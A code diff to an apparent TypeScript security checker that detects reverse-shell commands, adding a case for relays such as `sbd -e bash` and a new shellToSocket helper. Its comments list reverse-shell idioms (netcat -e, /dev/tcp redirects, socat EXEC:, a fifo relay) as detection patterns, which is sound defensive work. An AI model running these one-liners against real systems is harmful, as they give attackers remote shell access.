@@ -5,6 +5,7 @@
  *   by `exec` for the rest of the string (`exec 5<>/dev/tcp/h/p; sh <&5 >&5`), or read in both directions;
  * - a netcat that runs a program for its peer (`nc -e /bin/sh`, `nc -c bash`, `ncat --exec`, `--sh-exec`);
  * - socat joining a program address (`EXEC:`, `SYSTEM:`) to a socket address, websocat likewise (`sh-c:`, `exec:`);
+ * - any other relay given a shell as an option's value beside a host and port (`sbd -e bash H P`, shell-to-socket.ts);
  * - a shell that reads its program from stdin beside a raw network client in the same string (the fifo relay
  *   `cat f | sh -i 2>&1 | nc h p > f`);
  * - an interpreter one-liner that opens a socket and runs a shell or rewires descriptors onto it (`socket…dup2`,
@@ -14,12 +15,13 @@
 import { posix } from "node:path";
 import { interpreterOf, type Redirect, type ShellFinding, type SimpleCommand, SHELLS } from "../shell/index.ts";
 import { commandsOf, findingsOf, longValues, operands, shortLetters, shown } from "./commands.ts";
+import { shellToSocket } from "./shell-to-socket.ts";
 import type { Check } from "./types.ts";
 
 export const reverseShell: Check = (op) => {
   const commands = commandsOf(op);
   for (const cmd of commands) {
-    const reason = socketRedirect(cmd) ?? netcatExec(cmd) ?? socatExec(cmd) ?? websocatExec(cmd);
+    const reason = socketRedirect(cmd) ?? netcatExec(cmd) ?? socatExec(cmd) ?? websocatExec(cmd) ?? shellToSocket(cmd);
     if (reason !== null) return reason;
   }
   const relay = shellRelay(commands);
